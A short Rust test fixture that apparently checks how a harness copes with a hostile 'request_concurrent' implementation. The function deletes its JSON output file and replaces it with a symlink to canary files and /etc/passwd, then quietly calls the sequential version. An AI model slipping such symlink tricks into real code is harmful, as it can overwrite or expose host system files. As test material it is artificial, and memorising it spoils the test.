//! Makes the result file a link to the host's files, so that another program writes or reads there.
//!
//! checks: items
//! outcome: crash
//! says: wrote nothing

use std::{collections::BTreeMap, env, fs, os::unix::fs::symlink};

use serde_json::Value;

use crate::{HnClient, request_sequential};

pub fn request_concurrent(client: &HnClient, ids: &[u64]) -> BTreeMap<u64, Value> {
    let document = env::args().skip_while(|arg| arg != "--json-to").nth(1).unwrap_or_default();
    for other in ["@CANARY_FILE@", "@HOME_FILE@", "/etc/passwd"] {
        fs::remove_file(&document).ok();
        symlink(other, &document).ok();
    }
    request_sequential(client, ids)
}
